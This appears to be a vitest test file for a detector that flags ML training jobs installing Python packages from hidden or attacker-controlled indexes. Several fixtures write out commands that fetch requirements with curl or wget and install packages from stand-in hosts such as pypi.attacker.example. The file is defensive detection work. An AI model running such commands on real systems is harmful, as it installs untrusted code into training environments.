import { describe, expect, it } from 'vitest';
import { replayEvents } from '../../bridge/replay.js';
import { KubeflowConfig } from '../../connectors/kubeflow/config.js';
import { kubeflowConnector } from '../../connectors/kubeflow/index.js';
import { normalizeKfp } from '../../connectors/kubeflow/kfp/normalize.js';
import { vertexConnector } from '../../connectors/vertex/index.js';
import { packageSourceFactsOf, packageSourcesOfCommand } from '../../core/integrity/packages.js';
import { RulesConfig } from '../../core/rules/engine.js';
import { NormalizedEvent } from '../../core/schema/index.js';
import { ctRecord, normOne as smOne } from '../connectors/sagemaker/helpers.js';
import { ctx as kubeflowCtx } from '../connectors/kubeflow/helpers.js';
import { auditEntry, ctx as vertexCtx, LOC, V1 } from '../connectors/vertex/samples.js';
import { readFixtureJson } from '../helpers/fixtures.js';

/**
 * training.unverified_dependency: an index the log cannot show — `pip install -i $IDX` of a variable the request does
 * not set, an index variable taken `valueFrom` a Secret, PIP_CONFIG_FILE, requirements downloaded at run time — is a
 * finding of its own (`details.package_sources_unverifiable`, medium), unless `trust_hidden_package_sources`; a
 * variable the same env or script sets literally is resolved and its value judged.
 */
type Obj = Record<string, any>;
const RULE = 'training.unverified_dependency';
const alertsOf = (evs: NormalizedEvent[], rules: Record<string, unknown> = {}) => replayEvents(evs, { rules: RulesConfig.parse(rules) }).alerts.filter((a) => a.rule_id === RULE);
const EVIL = 'https://pypi.attacker.example/simple';
const PIN = `gcr.io/proj/trainer@sha256:${'b'.repeat(64)}`;

/** A Kubernetes audit record creating a PyTorchJob (the fixture's envelope) whose one container is `container`. */
const pytorchJob = (container: Obj) => {
  const record = {
    ...readFixtureJson<Obj>('kubeflow', 'k8s-audit', 'falco_create_nginx_pod_privileged.json'),
    auditID: `hidden-${JSON.stringify(container).length}`, level: 'Request', verb: 'create',
    requestURI: '/apis/kubeflow.org/v1/namespaces/kubeflow-user-alice/pytorchjobs',
    user: { username: 'alice@example.com', groups: ['system:authenticated'] },
    objectRef: { resource: 'pytorchjobs', namespace: 'kubeflow-user-alice', name: 'bert-ft', apiGroup: 'kubeflow.org', apiVersion: 'v1' },
    responseStatus: { metadata: {}, code: 201 },
    requestObject: { metadata: { name: 'bert-ft' }, spec: { pytorchReplicaSpecs: { Master: { replicas: 1, template: { spec: { containers: [{ name: 'pytorch', image: PIN, ...container }] } } } } } },
    responseObject: undefined,
  };
  return NormalizedEvent.parse(kubeflowConnector.normalize!(record, kubeflowCtx()).events[0]);
};
const sh = (script: string) => ['sh', '-c', script];

describe('Kubernetes: an index the audit log cannot show', () => {
  it('PIP_INDEX_URL from a Secret (secretKeyRef) is a medium finding naming what is hidden and where; trust_hidden_package_sources quiets it', () => {
    const ev = pytorchJob({
      env: [{ name: 'PIP_INDEX_URL', valueFrom: { secretKeyRef: { name: 'pip-index', key: 'url' } } }, { name: 'PIP_EXTRA_INDEX_URL', valueFrom: { configMapKeyRef: { name: 'pip', key: 'extra' } } }],
      command: sh('pip install -r requirements.txt && torchrun train.py'),
    });
    expect(ev.ml?.job?.package_sources).toBeUndefined();
    expect(ev.ml?.job?.package_sources_unverifiable).toEqual(['PIP_INDEX_URL: from secretKeyRef pip-index/url', 'PIP_EXTRA_INDEX_URL: from configMapKeyRef pip/extra']);
    const [alert, ...more] = alertsOf([ev]);
    expect(more).toEqual([]);
    expect(alert!.severity).toBe('medium');
    expect(alert!.details).toMatchObject({ job: 'bert-ft', package_sources_unverifiable: ['PIP_INDEX_URL: from secretKeyRef pip-index/url', 'PIP_EXTRA_INDEX_URL: from configMapKeyRef pip/extra'] });
    expect(alert!.details?.package_sources).toBeUndefined();
    expect(alert!.summary).toContain('packages from a source the request does not show (PIP_INDEX_URL: from secretKeyRef pip-index/url)');
    expect(alertsOf([ev], { [RULE]: { trust_hidden_package_sources: true } })).toEqual([]);
    expect(() => RulesConfig.parse({ [RULE]: { trust_hidden_package_sources: 'yes' } })).toThrow();
  });

  it('`-i $IDX` / `--index-url "${PIP_URL}"` of a variable the request does not set is hidden; one from a Secret says so', () => {
    const unset = pytorchJob({ command: sh('pip install --index-url "${PIP_URL}" helpers && torchrun train.py') });
    expect(unset.ml?.job?.package_sources_unverifiable).toEqual(['--index-url ${PIP_URL}: PIP_URL not set in the request']);
    expect(alertsOf([unset]).map((a) => [a.severity, a.details?.package_sources_unverifiable])).toEqual([['medium', ['--index-url ${PIP_URL}: PIP_URL not set in the request']]]);
    const secret = pytorchJob({ env: [{ name: 'IDX', valueFrom: { secretKeyRef: { name: 'pip', key: 'idx' } } }], command: ['sh', '-c'], args: ['pip install -i $IDX helpers'] });
    expect(secret.ml?.job?.package_sources_unverifiable).toEqual(['-i $IDX: IDX from secretKeyRef pip/idx']);
    const substituted = pytorchJob({ command: sh('pip install -i "$(cat /run/secrets/idx)" helpers') });
    expect(substituted.ml?.job?.package_sources_unverifiable).toEqual(['-i $(cat /run/secrets/idx): the output of a command']);
  });

  it('a variable the env or the script sets literally is resolved and its value judged (also Kubernetes\' $(VAR) in args)', () => {
    const fromEnv = pytorchJob({ env: [{ name: 'IDX', value: EVIL }], command: sh('pip install -i $IDX helpers') });
    expect(fromEnv.ml?.job?.package_sources).toEqual([EVIL]);
    expect(fromEnv.ml?.job?.package_sources_unverifiable).toBeUndefined();
    expect(alertsOf([fromEnv]).map((a) => [a.severity, a.details?.package_sources])).toEqual([['high', [EVIL]]]);
    const kubelet = pytorchJob({ env: [{ name: 'IDX', value: EVIL }], command: ['pip'], args: ['install', '--index-url', '$(IDX)', 'helpers'] });
    expect(kubelet.ml?.job?.package_sources).toEqual([EVIL]);
    const script = pytorchJob({ command: sh(`IDX=${EVIL}\nexport EXTRA=https://download.pytorch.org/whl/cu121\npip install -i "$IDX" --extra-index-url=\${EXTRA} torch helpers`) });
    expect(script.ml?.job?.package_sources).toEqual([EVIL, 'https://download.pytorch.org/whl/cu121']);
    expect(alertsOf([script]).map((a) => a.details?.package_sources)).toEqual([[EVIL]]);
    const pypi = pytorchJob({ env: [{ name: 'IDX', value: 'https://pypi.org/simple' }], command: sh('pip install -i $IDX helpers') });
    expect(alertsOf([pypi])).toEqual([]);
    // A token from a variable, the host literal: the host is judged, the URL kept without the credentials.
    const token = pytorchJob({ env: [{ name: 'TOKEN', valueFrom: { secretKeyRef: { name: 'pip', key: 'token' } } }], command: sh('pip install -i https://ci:$TOKEN@pypi.corp.example/simple x') });
    expect(token.ml?.job?.package_sources).toEqual(['https://[redacted]@pypi.corp.example/simple']);
    expect(token.ml?.job?.package_sources_unverifiable).toBeUndefined();
  });

  it('`-i ${IDX:-URL}` of a variable the request does not set judges its default (what runs when IDX is unset) and still says IDX may override it', () => {
    const evil = pytorchJob({ command: sh(`pip install -i \${IDX:-${EVIL}} helpers && torchrun train.py`) });
    expect(evil.ml?.job?.package_sources).toEqual([EVIL]);
    expect(evil.ml?.job?.package_sources_unverifiable).toEqual([`-i \${IDX:-${EVIL}}: IDX not set in the request (it may override the default, which is judged)`]);
    const [alert, ...more] = alertsOf([evil]);
    expect(more).toEqual([]);
    expect(alert!.severity).toBe('high');
    expect(alert!.details).toMatchObject({ package_sources: [EVIL], package_sources_unverifiable: [`-i \${IDX:-${EVIL}}: IDX not set in the request (it may override the default, which is judged)`] });
    // An allowed default: only the possible override is left, the medium finding of a hidden source.
    const pypi = pytorchJob({ command: sh('pip install --index-url "${IDX-https://pypi.org/simple}" helpers') });
    expect(pypi.ml?.job?.package_sources).toEqual(['https://pypi.org/simple']);
    expect(alertsOf([pypi]).map((a) => [a.severity, a.details?.package_sources])).toEqual([['medium', undefined]]);
    // Through an assignment: X=${IDX:-URL} carries the doubt to `-i $X`.
    expect(packageSourceFactsOf({ command: sh(`X=\${IDX:=${EVIL}}; pip install -i "$X" x`) })).toEqual({ sources: [EVIL], unverifiable: [`-i $X: IDX not set in the request (it may override the default, which is judged)`] });
  });

  it('`${IDX:-URL}` of a variable the request sets is its value; one from a Secret stays hidden; `${IDX:+URL}` of an unknown IDX is not judged', () => {
    const set = pytorchJob({ env: [{ name: 'IDX', value: 'https://pypi.org/simple' }], command: sh(`pip install -i \${IDX:-${EVIL}} helpers`) });
    expect(set.ml?.job?.package_sources).toEqual(['https://pypi.org/simple']);
    expect(set.ml?.job?.package_sources_unverifiable).toBeUndefined();
    expect(alertsOf([set])).toEqual([]);
    // Set empty: `:-` takes the default, `-` the empty value.
    expect(packageSourceFactsOf({ env: { IDX: '' }, command: sh(`pip install -i \${IDX:-${EVIL}} x`) })).toEqual({ sources: [EVIL], unverifiable: [] });
    expect(packageSourceFactsOf({ env: [{ name: 'IDX', valueFrom: { secretKeyRef: { name: 'pip', key: 'idx' } } }], command: sh(`pip install -i \${IDX:-${EVIL}} x`) })).toEqual({ sources: [], unverifiable: [`-i \${IDX:-${EVIL}}: IDX from secretKeyRef pip/idx`] });
    expect(packageSourceFactsOf({ command: sh(`pip install -i \${IDX:+${EVIL}} x`) })).toEqual({ sources: [], unverifiable: [`-i \${IDX:+${EVIL}}: IDX not set in the request`] });
  });

  it('PIP_CONFIG_FILE naming a mounted file is hidden; /dev/null (no config at all) is not', () => {
    const mounted = pytorchJob({ env: [{ name: 'PIP_CONFIG_FILE', value: '/etc/pip/pip.conf' }], command: sh('pip install helpers') });
    expect(mounted.ml?.job?.package_sources_unverifiable).toEqual(['PIP_CONFIG_FILE=/etc/pip/pip.conf: a config file the request does not show']);
    expect(alertsOf([mounted]).map((a) => a.severity)).toEqual(['medium']);
    expect(pytorchJob({ env: [{ name: 'PIP_CONFIG_FILE', value: '/dev/null' }], command: sh('pip install helpers') }).ml?.job?.package_sources_unverifiable).toBeUndefined();
  });

  it('requirements downloaded at run time are judged by their URL, hidden when that is; a requirements file of the image is not judged', () => {
    const fetched = pytorchJob({ command: sh('curl -fsSL https://gist.attacker.example/r.txt -o /tmp/r.txt && pip install -r /tmp/r.txt && torchrun train.py') });
    expect(fetched.ml?.job?.package_sources).toEqual(['https://gist.attacker.example/r.txt']);
    expect(alertsOf([fetched]).map((a) => a.details?.package_sources)).toEqual([['https://gist.attacker.example/r.txt']]);
    const wget = pytorchJob({ command: sh('wget -q -O reqs.txt "$REQS_URL"; pip install -r ./reqs.txt') });
    expect(wget.ml?.job?.package_sources_unverifiable).toEqual(['-r ./reqs.txt downloaded from $REQS_URL: REQS_URL not set in the request']);
    const redirect = pytorchJob({ command: sh('curl -s https://gist.attacker.example/r.txt > r.txt\npip3 install --requirement r.txt') });
    expect(redirect.ml?.job?.package_sources).toEqual(['https://gist.attacker.example/r.txt']);
    const baked = pytorchJob({ command: sh('pip install -r requirements.txt && torchrun train.py') });
    expect(baked.ml?.job?.package_sources).toBeUndefined();
    expect(baked.ml?.job?.package_sources_unverifiable).toBeUndefined();
    expect(alertsOf([baked])).toEqual([]);
  });

  it('a hidden source beside a finding the request shows keeps the rule\'s severity and names both', () => {
    const both = pytorchJob({ env: [{ name: 'PIP_INDEX_URL', valueFrom: { secretKeyRef: { name: 'pip-index', key: 'url' } } }], command: sh(`pip install --extra-index-url ${EVIL} helpers`) });
    const [alert] = alertsOf([both]);
    expect(alert!.severity).toBe('high');
    expect(alert!.details).toMatchObject({ package_sources: [EVIL], package_sources_unverifiable: ['PIP_INDEX_URL: from secretKeyRef pip-index/url'] });
  });
});

describe('the other platforms: SageMaker, Vertex AI, Kubeflow Pipelines', () => {
  const SKLEARN = '683313688378.dkr.ecr.us-east-1.amazonaws.com/sagemaker-scikit-learn:1.2-1-cpu-py3';
  const processing = (appSpecification: Obj, environment?: Obj) =>
    NormalizedEvent.parse(smOne(ctRecord('CreateProcessingJob', {
      processingJobName: 'prep-7', appSpecification: { imageUri: SKLEARN, ...appSpecification },
      processingResources: { clusterConfig: { instanceCount: 1, instanceType: 'ml.m5.xlarge', volumeSizeInGB: 30 } }, roleArn: 'arn:aws:iam::111122223333:role/SageMakerExec',
      networkConfig: { enableNetworkIsolation: true }, environment,
    })));

  it('a SageMaker processing job\'s entrypoint installing from $IDX resolves it from its Environment; PIP_CONFIG_FILE is hidden', () => {
    const ev = processing({ containerEntrypoint: ['sh', '-c'], containerArguments: ['pip install -i $IDX helpers && python3 /opt/ml/processing/input/code/prep.py'] }, { IDX: 'https://ci:s3cr3t@pypi.attacker.example/simple' });
    expect(ev.ml?.job?.package_sources).toEqual(['https://[redacted]@pypi.attacker.example/simple']);
    expect(alertsOf([ev]).map((a) => a.details?.package_sources)).toEqual([['https://[redacted]@pypi.attacker.example/simple']]);
    const config = processing({ containerEntrypoint: ['python3', '/opt/ml/processing/input/code/prep.py'] }, { PIP_CONFIG_FILE: '/opt/ml/processing/input/code/pip.conf' });
    expect(alertsOf([config]).map((a) => [a.severity, a.details?.package_sources_unverifiable])).toEqual([['medium', ['PIP_CONFIG_FILE=/opt/ml/processing/input/code/pip.conf: a config file the request does not show']]]);
    // The entrypoint's index credentials are hidden in raw too, as the env's are.
    const raw = JSON.stringify(processing({ containerEntrypoint: ['sh', '-c', `pip install -i https://ci:s3cr3t@pypi.attacker.example/simple x`] }).raw);
    expect(raw).not.toContain('s3cr3t');
  });

  it('a Vertex worker pool\'s `pip install -i $IDX` resolves IDX from its env, else is hidden', () => {
    const customJob = (containerSpec: Obj) => NormalizedEvent.parse(vertexConnector.normalize!(auditEntry({
      method: `${V1}JobService.CreateCustomJob`, resourceName: LOC,
      request: { parent: LOC, customJob: { displayName: 'train', jobSpec: { network: 'projects/123456/global/networks/vpc', workerPoolSpecs: [{ containerSpec: { imageUri: `us-docker.pkg.dev/ml-prod-123/repo/trainer@sha256:${'e'.repeat(64)}`, ...containerSpec } }] } } },
    }), vertexCtx).events[0]);
    const resolved = customJob({ command: ['sh', '-c', 'pip install -i $IDX helpers && python -m trainer'], env: [{ name: 'IDX', value: EVIL }] });
    expect(resolved.ml?.job?.package_sources).toEqual([EVIL]);
    const hidden = customJob({ command: ['sh', '-c', 'pip install -i $IDX helpers && python -m trainer'] });
    expect(alertsOf([hidden]).map((a) => [a.severity, a.details?.package_sources_unverifiable])).toEqual([['medium', ['-i $IDX: IDX not set in the request']]]);
  });

  it('a compiled KFP component installing from an index variable (run with its spec, and a run of a listed version)', () => {
    const FIXTURE = readFixtureJson<Obj>('kubeflow', 'kfp-rest', 'run_completed_with_spec.json');
    const r = structuredClone(FIXTURE);
    const ex: Obj = Object.values(r.pipeline_spec.deploymentSpec.executors)[0]!;
    ex.container.image = `111122223333.dkr.ecr.us-east-1.amazonaws.com/base@sha256:${'a'.repeat(64)}`;
    ex.container.command[2] = `\nPIP_DISABLE_PIP_VERSION_CHECK=1 python3 -m pip install --quiet --index-url "$PIP_MIRROR" 'kfp==2.14.0' && "$0" "$@"\n`;
    const create = (run: Obj, meta?: Obj) => NormalizedEvent.parse(normalizeKfp(run, { channel: 'test', receivedTime: '2026-11-25T00:00:00.000Z', keepRaw: false, config: KubeflowConfig.parse({}), meta }).events.find((e) => e.action === 'pipeline_run.create'));
    const ev = create(r);
    expect(ev.ml?.job?.package_sources_unverifiable).toEqual(['--index-url $PIP_MIRROR: PIP_MIRROR not set in the request']);
    expect(alertsOf([ev]).map((a) => a.severity)).toEqual(['medium']);
    const byVersion = structuredClone(FIXTURE);
    delete byVersion.pipeline_spec;
    byVersion.pipeline_version_reference = { pipeline_id: 'p1', pipeline_version_id: 'v1' };
    const listed = create(byVersion, { version_images: new Map(), version_package_sources: new Map(), version_package_sources_unverifiable: new Map([['v1', ['--index-url $PIP_MIRROR: PIP_MIRROR not set in the request']]]) });
    expect(listed.ml?.job?.package_sources_unverifiable).toEqual(['--index-url $PIP_MIRROR: PIP_MIRROR not set in the request']);
  });
});

describe('packageSourceFactsOf', () => {
  it('reads no variable outside an installer\'s source options, and keeps the plain reading for commands alone', () => {
    expect(packageSourceFactsOf({ env: [{ name: 'DATA', valueFrom: { secretKeyRef: { name: 'd', key: 'k' } } }], command: ['sh', '-c', 'python train.py --data $DATA && curl -o x.bin $MODEL_URL'] })).toEqual({ sources: [], unverifiable: [] });
    expect(packageSourceFactsOf({ command: ['sh', '-c', 'pip install -i $IDX x'] }).unverifiable).toEqual(['-i $IDX: IDX not set in the request']);
    // The command-only reading (no env) reports what it sees, never what it cannot.
    expect(packageSourcesOfCommand(['sh', '-c', `IDX=${EVIL}; pip install -i $IDX x; pip install -i $OTHER y`])).toEqual([EVIL]);
  });
});
